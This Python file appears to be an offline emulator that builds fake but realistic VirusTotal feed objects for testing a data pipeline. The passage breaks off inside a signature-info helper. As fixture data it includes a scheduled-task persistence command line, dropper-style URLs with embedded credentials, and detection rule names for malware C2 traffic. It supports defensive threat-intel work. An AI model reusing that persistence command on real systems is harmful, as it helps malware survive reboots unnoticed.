"""Deterministic, realistic VirusTotal feed objects and minute batches, free of HTTP.

The emulator is the project's offline default, so the objects have to look like what the real
feeds deliver (same shapes as `GET /files/{id}` and friends, see `vt_dagster_tests/data/vt_samples`), with the
untidiness of real data: fields come and go, lists are empty, URLs carry IDN hosts, ports,
userinfo, upper-case hosts and certificate-authority noise that the URL whitelist must drop.

Everything is drawn from one `random.Random` seeded by a string (string seeds are hashed with
SHA-512, unlike `hash()`, which is salted per process), so a batch is byte-identical on every run.
"""

from __future__ import annotations

import bz2
import datetime as dt
import hashlib
import json
import random
import re
from typing import Any, Callable, NamedTuple

from vt_dagster.feeds import get_feed, parse_minute_key

VT_API_URL = "https://www.virustotal.com/api/v3"
BATCH_COMPRESSLEVEL = 9
SIZE_VARIATION = 0.2

Obj = dict[str, Any]
DAY = 86400

# --------------------------------------------------------------------------------------------
# small random helpers
# --------------------------------------------------------------------------------------------


def _hex(rng: random.Random, chars: int) -> str:
    """`chars` random lowercase hex digits."""
    return format(rng.getrandbits(chars * 4), f"0{chars}x")


def _chance(rng: random.Random, probability: float) -> bool:
    return rng.random() < probability


def _sample(rng: random.Random, population: tuple | list, low: int, high: int) -> list:
    """Between `low` and `high` distinct items, in population order (so output stays stable)."""
    count = min(len(population), rng.randint(low, high))
    picked = sorted(rng.sample(range(len(population)), count))
    return [population[index] for index in picked]


def _epoch(moment: dt.datetime) -> int:
    return int(moment.timestamp())


def _date(ts: int, fmt: str = "%Y-%m-%d %H:%M:%S") -> str:
    return dt.datetime.fromtimestamp(ts, dt.timezone.utc).strftime(fmt)


def _b64ish(rng: random.Random, chars: int) -> str:
    alphabet = "ABCDEFGHIJKLMNOPQRSTUVWXYZabcdefghijklmnopqrstuvwxyz0123456789+/"
    return "".join(rng.choices(alphabet, k=chars))


def _ssdeep(rng: random.Random, size: int) -> str:
    block = 3
    while block * 64 < size:
        block *= 2
    return f"{block}:{_b64ish(rng, rng.randint(30, 64))}:{_b64ish(rng, rng.randint(12, 40))}"


def _tlsh(rng: random.Random) -> str:
    return "T1" + _hex(rng, 70).upper()


def _counts(rng: random.Random, values: tuple | list, low: int, high: int) -> list[Obj]:
    """VT's `[{"count", "value"}]` lists, biggest count first."""
    chosen = _sample(rng, values, low, high)
    counts = sorted((rng.randint(1, 30) for _ in chosen), reverse=True)
    return [{"count": count, "value": value} for count, value in zip(counts, chosen)]


# --------------------------------------------------------------------------------------------
# shared vocabulary
# --------------------------------------------------------------------------------------------

SYLLABLES = (
    "ka", "lo", "mi", "ne", "ta", "ru", "so", "vi", "pa", "de", "zo", "ha", "bu", "ge",
    "ri", "mo", "xa", "qu", "fi", "le", "wo", "yu", "ce", "no", "sa", "tri", "plex", "net",
    "cloud", "sec", "pay", "mail", "shop", "app", "web", "data", "soft", "link", "host",
)
TLDS = ("com", "com", "com", "net", "org", "ru", "cn", "info", "xyz", "top", "io", "de", "br",
        "in", "online", "site", "club", "co.uk", "com.br", "shop", "tk", "uk", "fr", "jp")
PATH_WORDS = (
    "login", "update", "secure", "account", "verify", "download", "files", "wp-content",
    "uploads", "images", "invoice", "doc", "bin", "api", "v2", "static", "js", "panel",
    "admin", "gate", "index", "payload", "cdn", "assets", "media", "track", "redirect",
)
FILE_WORDS = ("invoice", "setup", "update", "payment", "scan", "order", "document", "report",
              "crack", "keygen", "installer", "patch", "client", "loader", "photo", "resume")
FAMILIES_WIN = ("agenttesla", "formbook", "lokibot", "remcos", "njrat", "asyncrat", "redline",
                "vidar", "raccoon", "smokeloader", "guloader", "nanocore", "azorult", "qakbot",
                "emotet", "icedid", "dridex", "ursnif", "cobaltstrike", "xmrig", "zusy",
                "tasker", "stealc", "lummastealer", "amadey", "darkgate", "sality", "virut")
FAMILIES_ANDROID = ("hydra", "cerberus", "joker", "anubis", "flubot", "hiddad", "triada",
                    "spynote", "smsthief", "ermac", "banbra", "airpush")
FAMILIES_LINUX = ("mirai", "gafgyt", "xorddos", "tsunami", "xmrig", "kaiji", "mozi")
FAMILIES_DOC = ("emotet", "qakbot", "sagent", "valyria", "donoff", "obfuse", "encdoc")
FAMILIES_WEB = ("phish", "cryxos", "faceliker", "redirector", "iframeinject", "coinhive",
                "fakejquery", "socgholish")
THREAT_CATEGORIES = ("trojan", "downloader", "dropper", "ransomware", "miner", "adware",
                     "pua", "spyware", "banker", "worm", "virus", "hacktool", "phishing")
COUNTRIES = (
    # code, continent, registry, ((city, region), ...)
    ("US", "NA", "ARIN", (("ashburn", "VA"), ("new york", "NY"), ("san jose", "CA"), ("dallas", "TX"))),
    ("DE", "EU", "RIPE NCC", (("frankfurt am main", "HE"), ("berlin", "BE"), ("munich", "BY"))),
    ("GB", "EU", "RIPE NCC", (("london", "ENG"), ("manchester", "ENG"))),
    ("FR", "EU", "RIPE NCC", (("paris", "IDF"), ("roubaix", "HDF"))),
    ("NL", "EU", "RIPE NCC", (("amsterdam", "NH"),)),
    ("RU", "EU", "RIPE NCC", (("moscow", "MOW"), ("saint petersburg", "SPE"))),
    ("CN", "AS", "APNIC", (("beijing", "BJ"), ("shanghai", "SH"), ("shenzhen", "GD"))),
    ("JP", "AS", "APNIC", (("tokyo", "13"), ("osaka", "27"))),
    ("KR", "AS", "APNIC", (("seoul", "11"),)),
    ("IN", "AS", "APNIC", (("mumbai", "MH"), ("bengaluru", "KA"))),
    ("SG", "AS", "APNIC", (("singapore", "01"),)),
    ("BR", "SA", "LACNIC", (("são paulo", "SP"), ("rio de janeiro", "RJ"))),
    ("AR", "SA", "LACNIC", (("buenos aires", "C"),)),
    ("ZA", "AF", "AFRINIC", (("johannesburg", "GT"),)),
    ("NG", "AF", "AFRINIC", (("lagos", "LA"),)),
    ("AU", "OC", "APNIC", (("sydney", "NSW"),)),
    ("UA", "EU", "RIPE NCC", (("kyiv", "30"),)),
    ("TR", "AS", "RIPE NCC", (("istanbul", "34"),)),
    ("VN", "AS", "APNIC", (("hanoi", "HN"), ("hồ chí minh", "SG"))),
    ("ES", "EU", "RIPE NCC", (("madrid", "MD"),)),
)
NETWORKS = (
    # asn, as_owner, first two octets of its IPv4 prefix, IPv6 prefix
    (16509, "AMAZON-02", "52.95", "2600:1f18"),
    (14618, "AMAZON-AES", "54.210", "2600:1f10"),
    (15169, "GOOGLE", "142.250", "2607:f8b0"),
    (396982, "GOOGLE-CLOUD-PLATFORM", "34.117", "2600:1900"),
    (13335, "CLOUDFLARENET", "104.21", "2606:4700"),
    (8075, "MICROSOFT-CORP-MSN-AS-BLOCK", "20.42", "2603:1030"),
    (24940, "Hetzner Online GmbH", "88.198", "2a01:4f8"),
    (16276, "OVH SAS", "51.75", "2001:41d0"),
    (14061, "DIGITALOCEAN-ASN", "167.99", "2604:a880"),
    (63949, "Akamai Connected Cloud", "172.105", "2600:3c03"),
    (4134, "Chinanet", "222.186", "240e:3b7"),
    (4837, "CHINA UNICOM China169 Backbone", "123.125", "2408:8000"),
    (45090, "Shenzhen Tencent Computer Systems Company Limited", "43.155", "240d:c000"),
    (37963, "Hangzhou Alibaba Advertising Co.,Ltd.", "47.96", "2408:4000"),
    (9009, "M247 Europe SRL", "185.220", "2a02:6ea0"),
    (200019, "ALEXHOST SRL", "176.123", "2a0c:4c0"),
    (62240, "Clouvider", "185.245", "2a03:94e0"),
    (20473, "AS-CHOOPA", "45.77", "2001:19f0"),
    (13886, "CLOUD-SOUTH", "138.128", "2602:fe55"),
    (49505, "OOO \"Network of data-centers \"Selectel\"", "5.188", "2a0b:7280"),
)
NOISE_URLS = (
    "http://crl.microsoft.com/pki/crl/products/MicCodSigPCA_08-31-2010.crl",
    "http://www.microsoft.com/pki/certs/MicrosoftTimeStampPCA.crt",
    "http://ocsp.digicert.com",
    "http://crl3.digicert.com/DigiCertTrustedG4CodeSigningRSA4096SHA3842021CA1.crl",
    "http://cacerts.digicert.com/DigiCertAssuredIDRootCA.crt",
    "http://ocsp.sectigo.com",
    "http://crt.sectigo.com/SectigoPublicCodeSigningCAR36.crt",
    "http://ocsp.comodoca.com",
    "http://crl.globalsign.com/root-r3.crl",
    "http://schemas.xmlsoap.org/soap/envelope/",
    "http://schemas.xmlsoap.org/ws/2005/05/identity/claims/name",
    "http://schemas.microsoft.com/SMI/2005/WindowsSettings",
    "http://schemas.android.com/apk/res/android",
    "http://www.w3.org/2001/XMLSchema-instance",
    "http://www.w3.org/1999/xhtml",
    "http://ns.adobe.com/xap/1.0/",
    "https://www.google.com/",
    "http://www.apache.org/licenses/LICENSE-2.0",
    "http://CRL.Microsoft.com/pki/crl/products/MicrosoftCodeVerifRoot.crl",
    "HTTP://OCSP.DIGICERT.COM/MFEwTzBNMEswSTAJBgUrDgMCGgUABBQ",
    "http://crl.microsoft.com.cdn-update.top/pki/crl/products/update.exe",
    "http://ocsp.digicert.com.verify-ssl.xyz/check",
)
ODD_URLS = (
    "http://пример.рф/вход",
    "https://xn--80ak6aa92e.com/login.php",
    "http://bücher-günstig.de/angebot?id=7",
    "http://admin:p%40ss@files.{domain}:8080/drop/{word}.exe",
    "http://user@{domain}/{word}",
    "http://{IP}:8443/{word}.bin",
    "https://{DOMAIN}/{WORD}/Index.HTML",
    "http://[2001:db8:85a3::8a2e:370:7334]:8080/{word}",
    "https://{domain}:443/{word}/?q=%E2%9C%93&ref=%F0%9F%98%80",
    "http://{domain}/{word}#fragment-ünïcödé",
    "ftp://anonymous@{domain}/pub/{word}.zip",
    "https://{domain}./{word}",
    "http://{ip_decimal}/{word}",
)


def _word(rng: random.Random) -> str:
    return rng.choice(PATH_WORDS)


def _domain(rng: random.Random, subdomain: float = 0.3) -> str:
    label = "".join(rng.choice(SYLLABLES) for _ in range(rng.randint(2, 4)))
    if _chance(rng, 0.15):
        label += str(rng.randint(1, 999))
    name = f"{label}.{rng.choice(TLDS)}"
    if _chance(rng, subdomain):
        name = f"{rng.choice(('www', 'cdn', 'mail', 'api', 'login', 'update', 'dl'))}.{name}"
    return name


def _network(rng: random.Random) -> tuple[int, str, str, str]:
    return rng.choice(NETWORKS)


def _ipv4(rng: random.Random) -> str:
    prefix = _network(rng)[2]
    return f"{prefix}.{rng.randint(0, 255)}.{rng.randint(1, 254)}"


def _ipv6(rng: random.Random) -> str:
    prefix = _network(rng)[3]
    return f"{prefix}::{rng.randint(1, 0xFFFF):x}:{rng.randint(1, 0xFFFF):x}"


def _path(rng: random.Random) -> str:
    parts = [_word(rng) for _ in range(rng.randint(0, 3))]
    if _chance(rng, 0.4):
        parts.append(f"{rng.choice(FILE_WORDS)}.{rng.choice(('php', 'exe', 'zip', 'html', 'apk', 'js', 'bin'))}")
    return "/" + "/".join(parts)


def _plain_url(rng: random.Random, host: str | None = None) -> str:
    scheme = "https" if _chance(rng, 0.6) else "http"
    url = f"{scheme}://{host or _domain(rng)}{_path(rng)}"
    if _chance(rng, 0.25):
        url += f"?{rng.choice(('id', 'ref', 'u', 'token', 'q'))}={_hex(rng, rng.randint(4, 16))}"
    return url


def _odd_url(rng: random.Random) -> str:
    """A real-world oddity: IDN, unicode, userinfo, ports, upper case, IPv6 or numeric hosts."""
    domain = _domain(rng, subdomain=0)
    ip = _ipv4(rng)
    octets = [int(part) for part in ip.split(".")]
    return rng.choice(ODD_URLS).format(
        domain=domain, DOMAIN=domain.upper(), word=_word(rng), WORD=_word(rng).upper(), IP=ip,
        ip_decimal=(octets[0] << 24) + (octets[1] << 16) + (octets[2] << 8) + octets[3],
    )


def _url(rng: random.Random) -> str:
    """Mostly ordinary URLs, some odd ones, some whitelist noise."""
    roll = rng.random()
    if roll < 0.12:
        return rng.choice(NOISE_URLS)
    if roll < 0.2:
        return _odd_url(rng)
    if roll < 0.3:
        return _plain_url(rng, _ipv4(rng))
    return _plain_url(rng)


def _urls(rng: random.Random, low: int, high: int) -> list[str]:
    return [_url(rng) for _ in range(rng.randint(low, high))]


def _url_id(url: str) -> str:
    return hashlib.sha256(url.encode("utf-8")).hexdigest()


def _submitter(rng: random.Random) -> Obj:
    """The feed's lossy-ciphered submitter; any part may be missing."""
    country, _continent, _registry, places = rng.choice(COUNTRIES)
    city, region = rng.choice(places)
    submitter: Obj = {"city": city, "country": country, "region": region, "id": _hex(rng, 8),
                      "interface": rng.choice(("api", "api", "api", "web", "web", "email"))}
    if _chance(rng, 0.08):
        submitter.pop("city")
        submitter.pop("region")
    return submitter


def _drop_some(rng: random.Random, attributes: Obj, optional: tuple[str, ...],
               probability: float = 0.03) -> None:
    """Real objects lack fields now and then; consumers must not assume any optional one."""
    for key in optional:
        if key in attributes and _chance(rng, probability):
            del attributes[key]


def _votes(rng: random.Random) -> Obj:
    return {"harmless": rng.choice((0, 0, 0, 1, 2)), "malicious": rng.choice((0, 0, 0, 1, 3))}


# --------------------------------------------------------------------------------------------
# antivirus engines (file objects) and URL scanners (url, domain, ip_address objects)
# --------------------------------------------------------------------------------------------

# name, version, how that vendor names a detection ({P} platform, {C} category, {F} family,
# {N} number, {H} hex, {L} letters, {M} md5 prefix), True for mobile-only engines.
FILE_ENGINES: tuple[tuple[str, str, str, bool], ...] = (
    ("Bkav", "2.0.0.1", "W32.AIDetectMalware", False),
    ("Lionic", "8.16", "{C}.{P}.{F}.4!c", False),
    ("Elastic", "4.0.178", "malicious (high confidence)", False),
    ("MicroWorld-eScan", "14.0.409.0", "{C}.GenericKD.{N}", False),
    ("ClamAV", "1.4.2.0", "{P}.{C}.{F}-{N}-0", False),
    ("CTX", "2024.8.29.1", "exe.{C}.{F}", False),
    ("CAT-QuickHeal", "22.00", "{C}.{F}.S{N}", False),
    ("Skyhigh", "SL+", "BehavesLike.{P}.{F}.{L}", False),
    ("ALYac", "2.0.0.10", "{C}.GenericKD.{N}", False),
    ("Cylance", "3.0.0.0", "Unsafe", False),
    ("Zillya", "2.0.0.5258", "{C}.{F}.{P}.{N}", False),
    ("Sangfor", "2.22.3.0", "{C}.{P}.{F}.V{L}", False),
    ("K7AntiVirus", "12.224.55021", "{C} ( 00{H} )", False),
    ("Alibaba", "0.3.0.5", "{C}:{P}/{F}.{H}", False),
    ("K7GW", "12.224.55020", "{C} ( 00{H} )", False),
    ("Cybereason", "1.2.449", "malicious.{H}", False),
    ("Baidu", "1.0.0.2", "{P}.{C}.{F}.{L}", False),
    ("VirIT", "9.5.887", "{C}.{P}.{F}.{L}", False),
    ("Symantec", "1.22.0.0", "ML.Attribute.HighConfidence", False),
    ("tehtris", "v2.0.0.1", "Generic.Malware", False),
    ("ESET-NOD32", "31251", "a variant of {P}/{C}.{F}.{L}", False),
    ("APEX", "6.646", "Malicious", False),
    ("Avast", "24.5.8851.0", "{P}:{F}-{L} [Trj]", False),
    ("Kaspersky", "22.0.1.28", "HEUR:{C}.{P}.{F}.gen", False),
    ("BitDefender", "7.2", "{C}.GenericKD.{N}", False),
    ("NANO-Antivirus", "1.0.170.26531", "{C}.{P}.{F}.{L}", False),
    ("SUPERAntiSpyware", "5.6.0.1032", "{C}.Agent/Gen-{F}", False),
    ("Rising", "25.0.0.28", "{C}.{F}!8.{H} (CLOUD)", False),
    ("Emsisoft", "2024.8.0.61147", "{C}.GenericKD.{N} (B)", False),
    ("F-Secure", "18.10.1547.307", "{C}.TR/AD.{F}.{L}", False),
    ("DrWeb", "7.0.65.5230", "{C}.Siggen{N}", False),
    ("VIPRE", "6.0.0.35", "{C}.GenericKD.{N}", False),
    ("TrendMicro", "24.550.0.1002", "TROJ_GEN.R002C0{L}", False),
    ("McAfeeD", "1.2.0.7977", "ti!{M}", False),
    ("Trapmine", "4.0.2.1136", "malicious.high.ml.score", False),
    ("FireEye", "35.47.0.0", "Generic.mg.{M}", False),
    ("Sophos", "2.5.5.0", "Mal/Generic-S", False),
    ("SentinelOne", "24.3.0.4", "Static AI - Malicious PE", False),
    ("Jiangmin", "16.0.100", "{C}.{F}.{H}", False),
    ("Webroot", "1.9.0.8", "W32.Malware.Gen", False),
    ("Google", "1725181235", "Detected", False),
    ("Avira", "8.3.3.20", "TR/{F}.{H}", False),
    ("Antiy-AVL", "3.0", "{C}/{P}.{F}", False),
    ("Kingsoft", "None", "malware.kb.a.{N}", False),
    ("Gridinsoft", "1.0.188.174", "{C}.{P}.{F}.tr", False),
    ("Xcitium", "36880", "Malware@#{H}", False),
    ("Arcabit", "2022.0.0.18", "{C}.Generic.D{H}", False),
    ("ViRobot", "2014.3.20.0", "{C}.{P}.Z.Agent.{N}", False),
    ("ZoneAlarm", "6.16-103091638", "HEUR:{C}.{P}.{F}.gen", False),
    ("GData", "A:25.38455B:27.37276", "{P}.{C}.Agent.{L}", False),
    ("Varist", "6.5.1.2", "W32/{F}.{L}.gen!Eldorado", False),
    ("AhnLab-V3", "3.26.0.10504", "{C}/{P}.Generic.C{N}", False),
    ("Acronis", "1.2.0.121", "suspicious", False),
    ("McAfee", "6.0.6.653", "{F}-F{L}!{M}", False),
    ("MAX", "2023.1.4.1", "malware (ai score=100)", False),
    ("VBA32", "5.0.0", "{C}.{P}.{F}", False),
    ("Malwarebytes", "4.5.5.54", "Malware.AI.{N}", False),
    ("Panda", "4.6.4.2", "Trj/Chgt.{L}", False),
    ("Zoner", "2.2.2.0", "{C}.{P}.{N}", False),
    ("TrendMicro-HouseCall", "10.0.0.1040", "TROJ_GEN.R002C0{L}", False),
    ("Tencent", "1.0.0.1", "{P}.{C}.{F}.{L}", False),
    ("Yandex", "5.5.2.24", "{C}.{F}!{H}", False),
    ("Ikarus", "6.3.20.0", "{C}.{P}.{F}", False),
    ("MaxSecure", "1.0.0.1", "{C}.Malware.{N}.susgen", False),
    ("Fortinet", "7.0.30.0", "{P}/{F}.{L}!tr", False),
    ("AVG", "24.5.8851.0", "{P}:{F}-{L} [Trj]", False),
    ("Microsoft", "1.1.24070.3", "{C}:{P}/{F}.{L}!MTB", False),
    ("huorong", "e4d9b7f:e4d9b7f:c6fe7d9", "{C}/{F}.{L}", False),
    ("CrowdStrike", "1.0", "win/malicious_confidence_90% (W)", False),
    ("DeepInstinct", "5.0.0.8", "MALICIOUS", False),
    ("Cynet", "4.0.3.4", "Malicious (score: 100)", False),
    ("SymantecMobileInsight", "2.0", "AppRisk:Generisk", True),
    ("Trustlook", "1.0", "Android.Malware.{C}", True),
    ("BitDefenderFalx", "2.0.936", "Android.{C}.{F}.{L}", True),
    ("Avast-Mobile", "240901-00", "Android:Evo-gen [Trj]", True),
)
URL_ENGINES = (
    "Abusix", "Acronis", "ADMINUSLabs", "AILabs (MONITORAPP)", "AlienVault", "alphaMountain.ai",
    "Antiy-AVL", "ArcSight Threat Intelligence", "AutoShun", "Avira", "benkow.cc",
    "Bfore.Ai PreCrime", "BitDefender", "Blueliv", "Certego", "Chong Lua Dao", "CINS Army",
    "CMC Threat Intelligence", "CRDF", "Criminal IP", "CSIS Security Group", "Cyble",
    "CyRadar", "desenmascara.me", "DNS8", "Dr.Web", "EmergingThreats", "Emsisoft", "ESET",
    "ESTsecurity", "Forcepoint ThreatSeeker", "Fortinet", "G-Data", "Google Safebrowsing",
    "GreenSnow", "Gridinsoft", "Heimdal Security", "Hunt.io Intelligence", "IPsum",
    "Juniper Networks", "Kaspersky", "Lionic", "Lumu", "malwares.com URL checker",
    "MalwarePatrol", "MalwareURL", "Malwared", "Mimecast", "Netcraft", "OpenPhish",
    "Phishing Database", "PhishFort", "PhishLabs", "Phishtank", "PREBYTES", "PrecisionSec",
    "Quick Heal", "Quttera", "Rising", "SafeToOpen", "Sangfor", "Scantitan", "SCUMWARE.org",
    "Seclookup", "SecureBrain", "Segasec", "SOCRadar", "Sophos", "Spam404", "StopForumSpam",
    "Sucuri SiteCheck", "ThreatHive", "Threatsourcing", "Trustwave", "Underworld",
    "URLhaus", "URLQuery", "Viettel Threat Intelligence", "VIPRE", "VX Vault", "ViriBack",
    "Webroot", "Xcitium Verdict Cloud", "Yandex Safebrowsing", "ZeroCERT", "ZeroFox",
    "0xSI_f33d", "Snort IP sample list", "Cluster25", "Ermes", "GCP Abuse Intelligence",
)
URL_BAD_RESULTS = ("malicious", "malicious", "phishing", "malware", "suspicious", "spam")


def _detection_values(rng: random.Random, family: str, category: str, platform: str,
                      md5: str) -> dict[str, str]:
    """One object's naming material, shared by all engines so engines agree like real ones."""
    return {"P": platform, "C": category.capitalize(), "F": family.capitalize(),
            "N": str(rng.randint(10_000_000, 99_999_999)), "H": _hex(rng, 6),
            "L": "".join(rng.choices("ABCDEFGHJKLMNPQRSTUVWXYZ", k=rng.randint(1, 3))),
            "M": md5[:12]}


def _file_engine_results(rng: random.Random, verdict: float, values: dict[str, str],
                         mobile: bool, update: str) -> tuple[Obj, Obj]:
    """~75 `last_analysis_results` entries and their `last_analysis_stats`."""
    results: Obj = {}
    stats = {"harmless": 0, "type-unsupported": 0, "suspicious": 0, "confirmed-timeout": 0,
             "timeout": 0, "failure": 0, "malicious": 0, "undetected": 0}
    for name, version, template, mobile_only in FILE_ENGINES:
        if mobile_only != mobile and _chance(rng, 0.9):
            category, result = "type-unsupported", None
        else:
            category, result = _file_verdict(rng, verdict, template, values)
        stats[category] += 1
        results[name] = {"category": category, "engine_name": name, "engine_version": version,
                         "result": result, "method": "blacklist", "engine_update": update}
    return results, stats


def _file_verdict(rng: random.Random, verdict: float, template: str,
                  values: dict[str, str]) -> tuple[str, str | None]:
    roll = rng.random()
    if roll < verdict:
        return "malicious", template.format_map(values)
    if roll < verdict + 0.01:
        return rng.choice(("timeout", "failure", "confirmed-timeout")), None
    return "undetected", None


def _url_engine_results(rng: random.Random, badness: float) -> tuple[Obj, Obj]:
    """`last_analysis_results` of a URL scanner verdict, as on url/domain/ip_address objects."""
    results: Obj = {}
    stats = {"harmless": 0, "malicious": 0, "suspicious": 0, "undetected": 0, "timeout": 0}
    for name in URL_ENGINES:
        roll = rng.random()
        if roll < badness:
            result = rng.choice(URL_BAD_RESULTS)
            category = "suspicious" if result in ("suspicious", "spam") else "malicious"
        elif roll < badness + 0.25:
            category, result = "undetected", "unrated"
        elif roll < badness + 0.252:
            category, result = "timeout", "unrated"
        else:
            category, result = "harmless", "clean"
        stats[category] += 1
        results[name] = {"category": category, "result": result, "method": "blacklist",
                         "engine_name": name}
    return results, stats


# --------------------------------------------------------------------------------------------
# file objects
# --------------------------------------------------------------------------------------------


def _file_times(rng: random.Random, now: int) -> Obj:
    """Submission/analysis dates: most files are new, some were first seen long ago."""
    analysed = now + rng.randint(0, 59)
    if _chance(rng, 0.6):
        first, submitted = analysed - rng.randint(0, 120), 1
    else:
        first, submitted = analysed - rng.randint(DAY, 900 * DAY), rng.randint(2, 400)
    last_submission = max(first, analysed - rng.randint(0, 300))
    return {"first_submission_date": first, "last_submission_date": last_submission,
            "last_analysis_date": analysed, "last_modification_date": analysed + rng.randint(1, 30),
            "times_submitted": submitted, "unique_sources": rng.randint(1, submitted)}


def _threat_classification(rng: random.Random, family: str, category: str,
                           families: tuple) -> Obj:
    other = rng.choice(families)
    label = f"{category}.{family}/{other}" if other != family else f"{category}.{family}"
    return {
        "suggested_threat_label": label,
        "popular_threat_category": _counts(rng, (category,) + THREAT_CATEGORIES[:5], 1, 3),
        "popular_threat_name": _counts(rng, (family, other, "msil", "generic", "agent"), 1, 3),
    }


YARA_RULESETS = (
    ("Neo23x0/signature-base", "Florian Roth", "https://github.com/Neo23x0/signature-base"),
    ("ditekSHen/detection", "ditekSHen", "https://github.com/ditekshen/detection"),
    ("elastic/protections-artifacts", "Elastic Security",
     "https://github.com/elastic/protections-artifacts"),
    ("bartblaze/Yara-rules", "@bartblaze", "https://github.com/bartblaze/Yara-rules"),
    ("Malpedia", "Felix Bilstein - yara-signator at cocacoding dot com",
     "https://malpedia.caad.fkie.fraunhofer.de/"),
    ("YARAify", "abuse.ch", "https://yaraify.abuse.ch"),
)


def _yara_results(rng: random.Random, family: str) -> list[Obj]:
    results = []
    for ruleset, author, source in _sample(rng, YARA_RULESETS, 1, 4):
        year = rng.randint(2019, 2025)
        suspicious = rng.choice(("Obfuscated", "Packed", "Base64_Encoded_URL", "PowerShell_Caret"))
        rule = rng.choice((f"MAL_{family.capitalize()}_{year}", f"win_{family}_auto", f"SUSP_{suspicious}",
                           f"Windows_Trojan_{family.capitalize()}_{_hex(rng, 8)}"))
        results.append({"ruleset_id": _hex(rng, 10), "rule_name": rule,
                        "ruleset_name": ruleset.split("/")[-1],
                        "description": f"Detects {family} samples and related activity",
                        "author": author, "source": source})
    return results


SIGMA_RULES = (
    ("Suspicious Powershell In Registry Run Keys", "high"),
    ("Scheduled Task Creation Via Schtasks.EXE", "low"),
    ("Potential Persistence Via Registry Run Key", "medium"),
    ("Suspicious Double Extension File Execution", "critical"),
    ("Windows Defender Exclusions Added - Registry", "medium"),
    ("Suspicious Copy From or To System Directory", "medium"),
    ("Process Creation Using Sysnative Folder", "medium"),
    ("Suspicious Execution From Temp Folder", "high"),
    ("Non Interactive PowerShell Process Spawned", "low"),
    ("Uncommon Network Connection Initiated By Certutil.EXE", "high"),
)
SIGMA_SOURCES = ("Sigma Integrated Rule Set (GitHub)", "SOC Prime Threat Detection Marketplace")
SIGMA_AUTHORS = ("Florian Roth (Nextron Systems)", "frack113", "Nasreddine Bencherchali (Nextron Systems)")


def _sigma(rng: random.Random, obj: Obj) -> None:
    """sigma_analysis_results plus the stats/summary VT derives from them."""
    chosen = _sample(rng, SIGMA_RULES, 1, 5)
    results, stats = [], {"critical": 0, "high": 0, "medium": 0, "low": 0}
    for title, level in chosen:
        stats[level] += 1
        results.append({
            "rule_title": title, "rule_source": rng.choice(SIGMA_SOURCES), "rule_level": level,
            "rule_id": _hex(rng, 64), "rule_author": rng.choice(SIGMA_AUTHORS),
            "rule_description": f"Detects {title.lower()}",
            "match_context": [{"values": {
                "EventID": "1", "Image": "C:\\Windows\\System32\\cmd.exe",
                "CommandLine": f"cmd.exe /c schtasks /create /tn {_hex(rng, 6)} /tr %TEMP%\\{_hex(rng, 8)}.exe",
                "ParentImage": f"C:\\Users\\user\\AppData\\Local\\Temp\\{_hex(rng, 8)}.exe",
                "ProcessId": str(rng.randint(1000, 9000)), "User": "DESKTOP-B0T93D6\\george",
            }} for _ in range(rng.randint(1, 4))],
        })
    obj["sigma_analysis_results"] = results
    obj["sigma_analysis_stats"] = stats
    obj["sigma_analysis_summary"] = {SIGMA_SOURCES[0]: dict(stats)}


IDS_RULES = (
    ("ET MALWARE Win32/{F} CnC Checkin", "A Network Trojan was detected", "high"),
    ("ET INFO HTTP Request to a *.top domain", "Potentially Bad Traffic", "medium"),
    ("ET POLICY External IP Lookup ip-api.com", "Device Retrieving External IP Address Detected", "low"),
    ("ET DNS Query to a *.xyz Domain", "Potentially Bad Traffic", "low"),
    ("ET MALWARE Observed {F} Domain in TLS SNI", "Domain Observed Used for C2 Detected", "high"),
    ("ET INFO Executable Download from dotted-quad Host", "Potentially Bad Traffic", "medium"),
)


def _ids(rng: random.Random, obj: Obj, family: str) -> None:
    results, stats = [], {"info": 0, "high": 0, "low": 0, "medium": 0}
    for message, category, severity in _sample(rng, IDS_RULES, 1, 3):
        stats[severity] += 1
        sid = rng.randint(2_000_000, 2_060_000)
        msg = message.replace("{F}", family.capitalize())
        context = {"dest_ip": _ipv4(rng), "dest_port": rng.choice((80, 443, 8080, 53, 4444))}
        if _chance(rng, 0.6):
            context["hostname"] = _domain(rng)
        if _chance(rng, 0.4):
            context["url"] = _url(rng)
        results.append({"rule_category": category, "alert_severity": severity, "rule_msg": msg,
                        "rule_raw": f'alert tcp $HOME_NET any -> $EXTERNAL_NET any '
                                    f'(msg:"{msg}"; sid:{sid}; rev:1;)',
                        "rule_id": f"1:{sid}", "rule_source": "Proofpoint Emerging Threats Open",
                        "alert_context": [context]})
    obj["crowdsourced_ids_results"] = results
    obj["crowdsourced_ids_stats"] = stats


SANDBOXES = ("Zenbox", "C2AE", "DAS-Security Orcas", "Yomi Hunter", "Lastline", "VMRay",
             "CAPE Sandbox", "Dr.Web vxCube", "Tencent HABO", "VirusTotal Jujubox",
             "VirusTotal Observer", "Microsoft Sysinternals", "ReaQta-Hive", "BitDam ATP")


def _sandbox_verdicts(rng: random.Random, family: str, malicious: bool) -> Obj:
    verdicts: Obj = {}
    for name in _sample(rng, SANDBOXES[:10], 1, 3):
        verdict: Obj = {
            "category": "malicious" if malicious else rng.choice(("harmless", "undetected")),
            "sandbox_name": name,
            "malware_classification": ["MALWARE", "TROJAN"] if malicious else ["CLEAN"],
        }
        if malicious:
            verdict["confidence"] = rng.choice((30, 50, 70, 90, 100))
            if _chance(rng, 0.5):
                verdict["malware_names"] = [family.capitalize()]
        verdicts[name] = verdict
    return verdicts


DIGICERT_G4 = ("DigiCert Trusted G4 Code Signing RSA4096 SHA384 2021 CA1", "DigiCert Trusted Root G4")
SIGNERS = (  # signer, intermediate CA, root CA
    ("Microsoft Corporation", "Microsoft Code Signing PCA 2011", "Microsoft Root Certificate Authority 2011"),
    ("Google LLC",) + DIGICERT_G4,
    ("Zoom Video Communications, Inc.",) + DIGICERT_G4,
    ("ООО \"Софт Плюс\"", "Sectigo Public Code Signing CA R36", "Sectigo Public Code Signing Root R46"),
    ("Shenzhen Yunzhi Network Technology Co., Ltd.", "GlobalSign GCC R45 EV CodeSigning CA 2020",
     "GlobalSign Code Signing Root R45"),
    ("AVG Technologies USA, LLC", "DigiCert SHA2 Assured ID Code Signing CA", "DigiCert Assured ID Root CA"),
)


def _signature_info(rng: random.Random, name: str, ts: int) -> Obj:
    info: Obj = {"description": rng.choice((" ", f"{name.split('.')[0]} Setup", "Installer")),
                 "file version": f"{rng.randint(1, 12)}.{rng.randint(0, 9)}.{rng.randint(0, 999)}.0",
                 "original name": name, "internal name": name.split(".")[0],
                 "copyright": rng.choice((" ", "Copyright (C) 2024", "© Все права защищены"))}
    if not _chance(rng, 0.5):
        return info
